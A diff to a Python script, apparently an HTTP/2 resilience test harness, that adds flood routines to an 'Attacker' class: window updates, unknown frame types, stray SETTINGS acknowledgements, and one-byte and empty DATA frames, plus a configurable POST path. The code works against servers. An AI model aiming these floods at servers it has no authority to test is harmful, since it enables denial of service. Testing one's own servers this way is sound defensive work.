@@ -27,9 +27,9 @@ ENOUGH = 20_000
 class Attacker:
     """A connection that forgets no manners but those that it is told to."""
 
-    def __init__(self, url, authority):
+    def __init__(self, url, authority, posted="/live/clearkey"):
         place = urllib.parse.urlsplit(url)
-        self.host, self.path = place.netloc, place.path
+        self.host, self.path, self.posted = place.netloc, place.path, posted
         trust = ssl.create_default_context(cafile=authority)
         trust.set_alpn_protocols(["h2"])
         plain = socket.create_connection((place.hostname, place.port), timeout=20)
@@ -41,10 +41,26 @@ class Attacker:
         self.sent, self.goaway, self.closed = 0, None, False
         self.endings, self.statuses = collections.Counter(), collections.Counter()
 
-    def request(self, method="GET", fields=(), end=True):
+    def request(self, fields=()):
         stream = self.h2.get_next_available_stream_id()
-        head = [(":method", method), (":scheme", "https"), (":authority", self.host), (":path", self.path), *fields]
-        self.h2.send_headers(stream, head, end_stream=end)
+        head = [(":method", "GET"), (":scheme", "https"), (":authority", self.host), (":path", self.path), *fields]
+        self.h2.send_headers(stream, head, end_stream=True)
+        return stream
+
+    @property
+    def posting(self):
+        """The head of a request whose body is waited for."""
+        return [
+            (":method", "POST"),
+            (":scheme", "https"),
+            (":authority", self.host),
+            (":path", self.posted),
+            ("content-type", "application/json"),
+        ]
+
+    def post(self):
+        stream = self.h2.get_next_available_stream_id()
+        self.h2.send_headers(stream, self.posting)
         return stream
 
     def send(self, raw=b""):
@@ -159,9 +175,41 @@ def headers(attacker):
 
 def empties(attacker):
     """DATA without data, of a request whose body is waited for."""
-    stream = attacker.request("POST", end=False)
+    stream = attacker.post()
     attacker.send()
     frame = hyperframe.frame.DataFrame(stream_id=stream, data=b"")
+    while attacker.sent < ENOUGH and attacker.send(frame.serialize()):
+        pass
+
+
+def windows(attacker):
+    """Updates of the connection's window, by one."""
+    attacker.send()
+    frame = hyperframe.frame.WindowUpdateFrame(stream_id=0, window_increment=1)
+    while attacker.sent < ENOUGH and attacker.send(frame.serialize()):
+        pass
+
+
+def unknown(attacker):
+    """Frames of a type that nobody knows."""
+    attacker.send()
+    while attacker.sent < ENOUGH and attacker.send(b"\0\0\0\xee\0\0\0\0\0"):
+        pass
+
+
+def acknowledgements(attacker):
+    """SETTINGS that acknowledge what nobody has sent."""
+    attacker.send()
+    frame = hyperframe.frame.SettingsFrame(flags=["ACK"])
+    while attacker.sent < ENOUGH and attacker.send(frame.serialize()):
+        pass
+
+
+def crumbs(attacker):
+    """DATA of one byte, of a request whose body is waited for."""
+    stream = attacker.post()
+    attacker.send()
+    frame = hyperframe.frame.DataFrame(stream_id=stream, data=b"x")
     while attacker.sent < ENOUGH and attacker.send(frame.serialize()):
         pass
 
@@ -171,24 +219,36 @@ def streams(attacker):
     attacker.h2.remote_settings[h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS] = 1 << 30
     head = attacker.h2.encoder
     for number in range(150):
-        block = head.encode(
-            [(":method", "POST"), (":scheme", "https"), (":authority", attacker.host), (":path", "/live/clearkey")]
-        )
+        block = head.encode(attacker.posting)
         frame = hyperframe.frame.HeadersFrame(stream_id=2 * number + 1, data=block, flags=["END_HEADERS"])
         if not attacker.send(frame.serialize()):
             return
 
 
-ATTACKS = [resets, pings, settings, priorities, continuations, headers, empties, streams]
+ATTACKS = [
+    resets,
+    pings,
+    settings,
+    acknowledgements,
+    priorities,
+    windows,
+    unknown,
+    continuations,
+    headers,
+    empties,
+    crumbs,
+    streams,
+]
 
 
 def main():
     parser = argparse.ArgumentParser(description=__doc__)
     parser.add_argument("url")
     parser.add_argument("--authority", required=True, help="PEM file of who signs the server's certificate")
+    parser.add_argument("--posted", required=True, help="path of what takes a body")
     arguments = parser.parse_args()
     for attack in ATTACKS:
-        attacker = Attacker(arguments.url, arguments.authority)
+        attacker = Attacker(arguments.url, arguments.authority, arguments.posted)
         attack(attacker)
         attacker.finish(attack.__name__)
 
